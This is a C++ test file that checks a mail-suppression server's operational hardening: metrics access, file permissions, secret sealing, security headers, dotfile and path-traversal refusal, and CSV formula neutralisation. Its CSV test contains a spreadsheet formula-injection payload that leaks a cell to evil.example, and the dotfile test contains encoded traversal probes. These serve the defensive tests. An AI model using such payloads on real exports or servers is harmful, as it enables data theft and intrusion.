// Operational surfaces (docs/security.md §4), through a real `sesami serve` over loopback:
// /metrics only with the operator's metrics token on the main listener, or unauthenticated on the
// private --metrics-address; the database (with its WAL and SHM), the server key file and the SNS
// certificate directory owner-only even under a permissive umask; the unsubscribe secret sealed
// at rest with the server key (and an old plaintext one sealed on start), on SQLite and
// PostgreSQL; security headers on dashboard and API answers, dotfiles never served, HTTP/1.1
// without Host refused; CSV exports that a spreadsheet cannot run as formulas, and reasons
// capped in length on every way in.
#include <sys/stat.h>
#include <sys/types.h>

#include <cstdlib>
#include <filesystem>
#include <string>

#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <catch2/catch.hpp>

#include "../../server/app/secret_box.hpp"
#include "../../server/store/open.hpp"
#include "../server/sns_message.hpp"
#include "proof.hpp"

using namespace sesami::test;
namespace json = boost::json;
namespace fs = std::filesystem;

namespace {
unsigned mode_of(const fs::path& p) {
  struct stat st {};
  if (::stat(p.c_str(), &st) != 0) return 0xFFFF;  // missing: never equal to a mode
  return st.st_mode & 07777;
}

/// Sets the process umask for a scope: the spawned server inherits it.
struct scoped_umask {
  mode_t old;
  explicit scoped_umask(mode_t m) : old(::umask(m)) {}
  ~scoped_umask() { ::umask(old); }
};

/// The port of the --metrics-address listener, from the line serve prints before "listening".
unsigned short metrics_port(const server_process& srv) {
  const std::string marker = "metrics on http://127.0.0.1:";
  const auto at = srv.out().find(marker);
  if (at == std::string::npos) return 0;
  return static_cast<unsigned short>(std::stoi(srv.out().substr(at + marker.size())));
}

/// What the store holds in the unsubscribe secret's column (the candidate is never used: a row
/// exists once the server has started).
std::string stored_mail_secret(const std::string& db) {
  auto m = sesami::store::open_mail(db);
  REQUIRE(m.has_value());
  auto s = (*m)->server_secret("never-stored-candidate");
  REQUIRE(s.has_value());
  return *s;
}

/// A fresh PostgreSQL schema's URL (as the server:pg: suites use), for this directory.
std::string pg_db(const fs::path& dir) {
  ::setenv("SESAMI_TEST_BACKEND", "postgres", 1);
  auto url = test_db(dir);
  ::unsetenv("SESAMI_TEST_BACKEND");
  return url;
}
}  // namespace

TEST_CASE("security/ops: /metrics needs the metrics token, or the private metrics listener",
          "[proof][security][ops]") {
  temp_dir dir;
  const auto ws = create_workspace(dir.path / "sesami.db", "acme");
  const std::string token = "9f1c2e7a5b3d4c6e8f0a1b2c3d4e5f60718293a4b5c6d7e8";

  SECTION("without a metrics flag, /metrics is not served on the main listener") {
    server_process srv(dir.path);
    http_client c(srv.port());
    auto r = c.request("GET", "/metrics");
    CHECK(r.status == 404);
    CHECK(r.body.find("sesami_http_requests_total") == std::string::npos);
    // A workspace's API key (even its owner's) does not open server-wide numbers either.
    r = c.request("GET", "/metrics", "", bearer(ws.key));
    CHECK(r.status == 404);
    CHECK(r.body.find("sesami_") == std::string::npos);
  }
  SECTION("--metrics-token-file: the bearer token opens it, nothing else does") {
    write_file(dir.path / "metrics.token", token + "\n");
    server_process srv(dir.path, {"--metrics-token-file", (dir.path / "metrics.token").string()});
    http_client c(srv.port());
    auto r = c.request("GET", "/metrics");
    CHECK(r.status == 401);
    CHECK(code_of(r) == "auth.unauthenticated");
    CHECK(r.body.find("sesami_http_requests_total") == std::string::npos);
    CHECK(c.request("GET", "/metrics", "", bearer(token + "x")).status == 401);
    CHECK(c.request("GET", "/metrics", "", bearer(token.substr(1))).status == 401);
    CHECK(c.request("GET", "/metrics", "", bearer(ws.key)).status == 401);
    r = c.request("GET", "/metrics", "", bearer(token));
    CHECK(r.status == 200);
    CHECK(r.header("content-type").starts_with("text/plain"));
    CHECK(r.body.find("sesami_http_requests_total") != std::string::npos);
  }
  SECTION("a metrics token too short to be a secret stops the server at start") {
    write_file(dir.path / "metrics.token", "short\n");
    auto r = run_sesami_err({"serve", "--db", (dir.path / "sesami.db").string(), "--port", "0",
                             "--metrics-token-file", (dir.path / "metrics.token").string()});
    CHECK(r.status == 2);
    CHECK(r.err.find("metrics.token") != std::string::npos);
  }
  SECTION("--metrics-address: an unauthenticated listener for the scraper, and only /metrics") {
    server_process srv(dir.path, {"--metrics-address", "127.0.0.1:0"});
    const auto mport = metrics_port(srv);
    REQUIRE(mport != 0);
    REQUIRE(mport != srv.port());
    CHECK(http_client(srv.port()).request("GET", "/metrics").status == 404);
    http_client m(mport);
    auto r = m.request("GET", "/metrics");
    CHECK(r.status == 200);
    CHECK(r.body.find("sesami_http_requests_total") != std::string::npos);
    // The API is not reachable through the metrics listener.
    CHECK(m.request("GET", "/events", "", bearer(ws.key)).status == 404);
    CHECK(m.request("POST", "/auth/login", "{}").status == 404);
  }
}

TEST_CASE("security/ops: database, WAL, SHM, key file and certificate directory are owner-only",
          "[proof][security][ops]") {
  temp_dir dir;
  scoped_umask permissive(022);
  SECTION("files serve creates") {
    server_process srv(dir.path);
    http_client c(srv.port());
    REQUIRE(c.request("POST", "/auth/login",
                      json::serialize(json::object{{"email", "admin"}, {"password", "wrong"}}))
                .status == 401);
    const auto db = srv.db();
    CHECK(mode_of(db) == 0600);
    CHECK(mode_of(db.string() + "-wal") == 0600);  // present while the server runs (WAL mode)
    CHECK(mode_of(db.string() + "-shm") == 0600);
    CHECK(mode_of(db.string() + ".key") == 0600);  // the default --secret-key-file
    CHECK(mode_of(dir.path / "certs") == 0700);    // --sns-cert-dir, created at start
  }
  SECTION("an explicit --secret-key-file in a new directory, and a database made by the CLI") {
    const auto key = dir.path / "keys" / "server.key";
    fs::create_directories(key.parent_path());
    // `workspace create` seals the owner key's SigV4 secret with the server key: it is given the
    // same file as serve (and would otherwise make the default one).
    REQUIRE(run_sesami({"workspace", "create", "acme", "--db", (dir.path / "sesami.db").string(),
                        "--json", "--secret-key-file", key.string()})
                .status == 0);
    CHECK(mode_of(dir.path / "sesami.db") == 0600);
    server_process srv(dir.path, {"--secret-key-file", key.string()});
    CHECK(mode_of(key) == 0600);
    CHECK(fs::file_size(key) == 65);  // 64 hex digits and a newline
    CHECK_FALSE(fs::exists(dir.path / "sesami.db.key"));
  }
  SECTION("an SNS signing certificate fetched and kept in the certificate directory") {
    pki ca;
    const auto signer = ca.issue("sesami-test-signer");
    const std::string file = "SimpleNotificationService-fetched.pem";
    const auto db = dir.path / "sesami.db";
    const auto ws = create_workspace(db, "acme");
    // The message's topic is in this account (sns_message.hpp): the workspace allows it.
    REQUIRE(
        run_sesami({"workspace", "connect-account", "acme", sns_topic_account, "--db", db.string()})
            .status == 0);
    write_file(dir.path / "ca.pem", ca.ca.cert_pem);
    https_stub stub(ca.issue("sns.us-east-1.amazonaws.com"), {{"/" + file, signer.cert_pem}});
    server_process srv(dir.path,
                       {"--test-sns-ca", (dir.path / "ca.pem").string(), "--test-sns-connect-to",
                        "127.0.0.1:" + std::to_string(stub.port())});
    http_client c(srv.port());
    auto r = c.request("POST", "/ingest/sns/" + ws.token,
                       sns_message(signer, "Notification", "00000000-0000-0000-0000-0000000000c1",
                                   fixture("ses/event-delivery.json"), "2", "",
                                   "https://sns.us-east-1.amazonaws.com/" + file));
    INFO(r.body);
    REQUIRE(r.status == 200);
    CHECK(mode_of(dir.path / "certs") == 0700);
    CHECK(mode_of(dir.path / "certs" / file) == 0600);
  }
}

TEST_CASE("security/ops: the unsubscribe secret is sealed at rest with the server key file",
          "[proof][security][ops]") {
  temp_dir dir;
  const bool postgres = GENERATE(false, true);
  INFO((postgres ? "PostgreSQL" : "SQLite"));
  const std::string db = postgres ? pg_db(dir.path) : (dir.path / "sesami.db").string();
  const auto key_file = dir.path / "server.key";
  auto box_of = [&] {
    auto k = sesami::app::load_key_file(key_file, "the server key");
    REQUIRE(k.has_value());
    return sesami::app::secret_box(sesami::app::database_key(*k));
  };
  { server_process srv(dir.path, {"--secret-key-file", key_file.string()}, db); }
  const auto stored = stored_mail_secret(db);
  CHECK(sesami::app::secret_box::is_sealed_text(stored));
  const auto plain = box_of().open_text(stored, "mail_secret");
  REQUIRE(plain);
  CHECK(plain->size() >= 32);
  if (!postgres) {
    // Not in the database file (nor a WAL left behind) in any form.
    const auto bytes = read_file(db) + read_file(db + "-wal");
    CHECK(bytes.find(*plain) == std::string::npos);
    CHECK(bytes.find(stored) != std::string::npos);
  }

  SECTION("a plaintext secret of an older version is sealed on start, and keeps its value") {
    const std::string legacy = "legacy-plaintext-unsubscribe-secret-0123456789";
    {
      auto m = sesami::store::open_mail(db);
      REQUIRE(m.has_value());
      auto swapped = (*m)->replace_server_secret(stored, legacy);
      REQUIRE(swapped.has_value());
      REQUIRE(*swapped);
    }
    CHECK(stored_mail_secret(db) == legacy);
    { server_process srv(dir.path, {"--secret-key-file", key_file.string()}, db); }
    const auto resealed = stored_mail_secret(db);
    CHECK(resealed != legacy);
    CHECK(sesami::app::secret_box::is_sealed_text(resealed));
    CHECK(box_of().open_text(resealed, "mail_secret") == legacy);
  }
  SECTION("another key file does not open it: the server refuses to start and says why") {
    const auto other = dir.path / "other.key";
    write_file(other, std::string(64, 'a') + "\n");
    auto r =
        run_sesami_err({"serve", "--db", db, "--port", "0", "--secret-key-file", other.string()});
    CHECK(r.status == 2);
    CHECK(r.err.find("--secret-key-file") != std::string::npos);
    CHECK(stored_mail_secret(db) == stored);  // untouched
  }
}

TEST_CASE("security/ops: security headers, dotfiles and requests without Host",
          "[proof][security][ops]") {
  temp_dir dir;
  const auto web = dir.path / "web";
  fs::create_directories(web / "assets");
  fs::create_directories(web / ".git");
  write_file(web / "index.html", "<!doctype html><title>SESami</title>");
  write_file(web / "assets" / "app.js", "console.log(1)");
  write_file(web / ".env", "AWS_SECRET_ACCESS_KEY=do-not-serve");
  write_file(web / ".git" / "config", "[remote] do-not-serve");
  write_file(web / "assets" / ".secret.js", "do-not-serve");
  server_process srv(dir.path, {"--static-dir", web.string()});

  auto check_common = [](const http_response& r) {
    CHECK(r.header("x-content-type-options") == "nosniff");
    CHECK(r.header("referrer-policy") == "no-referrer");
    CHECK(r.header("content-security-policy").find("frame-ancestors 'none'") != std::string::npos);
  };
  SECTION("the dashboard carries its Content-Security-Policy") {
    http_client c(srv.port());
    for (const char* path : {"/", "/assets/app.js", "/suppression/list"}) {  // last: an app route
      INFO(path);
      auto r = c.request("GET", path, "", {{"Accept", "text/html"}});
      REQUIRE(r.status == 200);
      check_common(r);
      const auto csp = r.header("content-security-policy");
      CHECK(csp.find("default-src 'self'") != std::string::npos);
      CHECK(csp.find("script-src 'self' 'wasm-unsafe-eval'") != std::string::npos);
      CHECK(csp.find("base-uri 'none'") != std::string::npos);
      CHECK(csp.find("connect-src 'self'") != std::string::npos);
      CHECK(csp.find("unsafe-eval'") == csp.find("wasm-unsafe-eval'") + 5);  // no plain eval
    }
  }
  SECTION("API answers, errors included, carry nosniff and a deny-all policy") {
    http_client c(srv.port());
    for (const char* path : {"/health", "/events", "/assets/missing.js"}) {
      INFO(path);
      auto r = c.request("GET", path, "", {{"Accept", "application/json"}});
      check_common(r);
      CHECK(r.header("content-security-policy").find("default-src 'none'") != std::string::npos);
    }
    // An answer made before routing (a request too large) too.
    auto r =
        http_client(srv.port()).request("GET", "/health", "", {{"X-Big", std::string(20000, 'a')}});
    CHECK(r.status == 431);
    CHECK(r.header("x-content-type-options") == "nosniff");
  }
  SECTION("dotfiles are never served, however asked for") {
    for (const char* path : {"/.env", "/.git/config", "/assets/.secret.js", "/%2eenv",
                             "/assets/%2Esecret.js", "/.git/", "/.well-known/../.env"}) {
      for (const char* accept : {"*/*", "text/html"}) {
        INFO(path << " Accept: " << accept);
        auto r = http_client(srv.port()).request("GET", path, "", {{"Accept", accept}});
        CHECK(r.status == 404);
        CHECK(r.body.find("do-not-serve") == std::string::npos);
        CHECK(r.body.find("SESami") == std::string::npos);  // not the app in their place either
      }
    }
    // Traversal stays refused.
    write_file(dir.path / "outside.txt", "do-not-serve");
    auto r = http_client(srv.port()).request("GET", "/assets/%2e%2e/%2e%2e/outside.txt");
    CHECK(r.status == 404);
  }
  SECTION("HTTP/1.1 without Host is 400; HTTP/1.0 without Host is served") {
    auto out = http_client(srv.port()).raw("GET /health HTTP/1.1\r\nConnection: close\r\n\r\n");
    CHECK(out.starts_with("HTTP/1.1 400"));
    CHECK(out.find("http.bad_request") != std::string::npos);
    CHECK(out.find("\"status\":\"ok\"") == std::string::npos);
    out = http_client(srv.port()).raw("GET /health HTTP/1.0\r\n\r\n");
    CHECK(out.starts_with("HTTP/1.0 200"));
    out = http_client(srv.port())
              .raw("GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");
    CHECK(out.starts_with("HTTP/1.1 200"));
  }
}

TEST_CASE("security/ops: CSV exports neutralise formulas; reasons are capped on every way in",
          "[proof][security][ops]") {
  temp_dir dir;
  const auto db = dir.path / "sesami.db";
  const auto ws = create_workspace(db, "acme");
  server_process srv(dir.path);
  http_client c(srv.port());
  const auto h = bearer(ws.key);
  auto add = [&](const std::string& address, const std::string& reason) {
    return c.request("POST", "/suppression-list",
                     json::serialize(json::object{{"address", address}, {"reason", reason}}), h);
  };
  const std::string hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";

  SECTION("formula cells come back prefixed with an apostrophe, over HTTP and from the CLI") {
    REQUIRE(add("a@example.com", hyperlink).status == 201);
    REQUIRE(add("b@example.com", "+1+1").status == 201);
    REQUIRE(add("c@example.com", "-2+3").status == 201);
    REQUIRE(add("d@example.com", "@SUM(1)").status == 201);
    REQUIRE(add("e@example.com", "\t=1").status == 201);
    REQUIRE(add("f@example.com", "\r=1").status == 201);
    REQUIRE(add("=cmd@example.com", "manual").status == 201);
    REQUIRE(add("g@example.com", "plain reason").status == 201);
    auto r = c.request("GET", "/suppression-list?format=csv", "", h);
    REQUIRE(r.status == 200);
    const std::string expect_link =
        "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"click\"\")\"";
    for (const auto& csv : {r.body, run_sesami_err({"suppression", "export", "--db", db.string(),
                                                    "--workspace", ws.id})
                                        .out}) {
      INFO(csv);
      CHECK(csv.find("a@example.com," + expect_link + ",") != std::string::npos);
      CHECK(csv.find("b@example.com,'+1+1,") != std::string::npos);
      CHECK(csv.find("c@example.com,'-2+3,") != std::string::npos);
      CHECK(csv.find("d@example.com,'@SUM(1),") != std::string::npos);
      CHECK(csv.find("e@example.com,'\t=1,") != std::string::npos);
      CHECK(csv.find("f@example.com,\"'\r=1\",") != std::string::npos);
      CHECK(csv.find("\r\n'=cmd@example.com,manual,") != std::string::npos);
      CHECK(csv.find("g@example.com,plain reason,") != std::string::npos);
      // No cell of the export starts with a formula character.
      for (const char* bad :
           {",=", ",+", ",-", ",@", ",\"=", ",\"+", ",\"-", ",\"@", "\n=", "\n+", "\n-", "\n@"})
        CHECK(csv.find(bad) == std::string::npos);
    }
    // The export imports back to the same reasons (the apostrophe is the export's, not data).
    temp_dir other;
    const auto db2 = other.path / "sesami.db";
    const auto ws2 = create_workspace(db2, "copy");
    write_file(other.path / "export.csv", r.body);
    auto imp = run_sesami_err({"suppression", "import", (other.path / "export.csv").string(),
                               "--db", db2.string(), "--workspace", ws2.id});
    INFO(imp.err);
    CHECK(imp.status == 0);
    auto listed = run_sesami_err(
        {"suppression", "list", "--json", "--db", db2.string(), "--workspace", ws2.id});
    CHECK(listed.out.find(json::serialize(json::value(hyperlink))) != std::string::npos);
  }
  SECTION("a reason over 500 characters is refused: 400 over HTTP, FILE:LINE from the CLI") {
    const std::string long_reason(501, 'x');
    auto r = add("long@example.com", long_reason);
    CHECK(r.status == 400);
    CHECK(code_of(r) == "validation.reason_too_long");
    // Characters, not bytes: 500 two-byte characters pass.
    std::string accented;
    for (int i = 0; i < 500; ++i) accented += "\xC3\xA9";
    CHECK(add("accented@example.com", accented).status == 201);

    // CSV import over HTTP: the line is a problem, the others import.
    r = c.request(
        "POST", "/suppression-list",
        "address,reason\r\nok@example.com,fine\r\nlong@example.com," + long_reason + "\r\n",
        {{"Authorization", "Bearer " + ws.key}, {"Content-Type", "text/csv"}});
    REQUIRE(r.status == 200);
    auto v = parse(r);
    CHECK(v.at("added").to_number<int>() == 1);
    REQUIRE(v.at("problems").as_array().size() == 1);
    CHECK(v.at("problems").at(0).at("line").to_number<int>() == 3);
    CHECK(s(v.at("problems").at(0).at("message")).find("500") != std::string::npos);

    // The CLI: FILE:LINE, exit 1, the long one not stored.
    write_file(dir.path / "in.csv",
               "other@example.com,ok\nlong2@example.com," + long_reason + "\n");
    auto imp = run_sesami_err({"suppression", "import", (dir.path / "in.csv").string(), "--db",
                               db.string(), "--workspace", ws.id});
    CHECK(imp.status == 1);
    CHECK(imp.err.find((dir.path / "in.csv").string() + ":2:") != std::string::npos);
    auto add_cli = run_sesami_err({"suppression", "add", "x@example.com", "--reason", long_reason,
                                   "--db", db.string(), "--workspace", ws.id});
    CHECK(add_cli.status == 2);
    auto listed = c.request("GET", "/suppression-list?limit=1000", "", h);
    CHECK(listed.body.find("long@example.com") == std::string::npos);
    CHECK(listed.body.find("long2@example.com") == std::string::npos);
    CHECK(listed.body.find("x@example.com") == std::string::npos);
    CHECK(listed.body.find("other@example.com") != std::string::npos);
  }
}
